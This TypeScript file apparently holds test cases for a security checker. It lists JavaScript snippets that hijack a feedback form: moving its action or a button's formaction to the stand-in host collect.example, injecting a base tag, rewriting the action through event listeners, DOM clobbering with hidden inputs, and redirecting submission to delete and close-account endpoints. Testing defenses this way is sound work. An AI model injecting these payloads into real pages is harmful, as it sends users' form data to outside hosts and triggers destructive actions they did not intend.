import type { Attack } from '../attack.js';

const elsewhere = 'https://collect.example/form';
const form = "document.getElementById('feedback')";
const button = "document.querySelector('#feedback button')";

const moved: readonly (readonly [mechanism: string, name: string, script: string])[] = [
  ['moved action', 'the action leads to another host', `${form}.action = '${elsewhere}';`],
  [
    'moved action',
    'the action leads to another host by POST',
    `${form}.action = '${elsewhere}'; ${form}.method = 'post';`,
  ],
  ['moved action', 'the action leads to another port', `${form}.action = 'http://collect.example:8080/';`],
  ['moved action', 'the action has no host of its own', `${form}.setAttribute('action', '//collect.example/form');`],
  ['moved formaction', 'the button leads to another host', `${button}.setAttribute('formaction', '${elsewhere}');`],
  [
    'moved formaction',
    'the button leads to another host by POST',
    `${button}.setAttribute('formaction', '${elsewhere}'); ${button}.setAttribute('formmethod', 'post');`,
  ],
  [
    'moved base',
    'the base of all addresses is another host',
    `document.head.insertAdjacentHTML('afterbegin', '<base href="https://collect.example/">'); ${form}.setAttribute('action', 'form');`,
  ],
  [
    'moved by an event',
    'a click moves the action',
    `${button}.addEventListener('click', () => { ${form}.action = '${elsewhere}'; });`,
  ],
  [
    'moved by an event',
    'a submit moves the action',
    `${form}.addEventListener('submit', () => { ${form}.action = '${elsewhere}'; });`,
  ],
  [
    'moved by an event',
    'a press moves the action',
    `${button}.addEventListener('mousedown', () => { ${form}.action = '${elsewhere}'; });`,
  ],
  [
    'moved by an event',
    'typing moves the action',
    `${form}.addEventListener('input', () => { ${form}.action = '${elsewhere}'; });`,
  ],
  [
    'clobbered form',
    'a field named action hides the action',
    `${form}.insertAdjacentHTML('beforeend', '<input type=hidden name=action value=x>'); ${form}.setAttribute('action', '${elsewhere}');`,
  ],
  [
    'clobbered form',
    'a field named getAttribute hides the function',
    `${form}.setAttribute('action', '${elsewhere}'); ${form}.insertAdjacentHTML('beforeend', '<input type=hidden name=getAttribute value=x>');`,
  ],
  [
    'other form',
    'the button submits another form',
    `document.body.insertAdjacentHTML('beforeend', '<form id="other" action="${elsewhere}"></form>'); ${button}.setAttribute('form', 'other');`,
  ],
  ['riskier address', 'the address names an ending', `${form}.action = '/workspace/delete'; ${form}.method = 'post';`],
  ['riskier address', 'the button names an ending', `${button}.setAttribute('formaction', '/account/close-account');`],
];

export const forms: readonly Attack[] = moved.map(([mechanism, name, after]) => ({
  name,
  mechanism,
  call: 'feedback',
  after,
}));
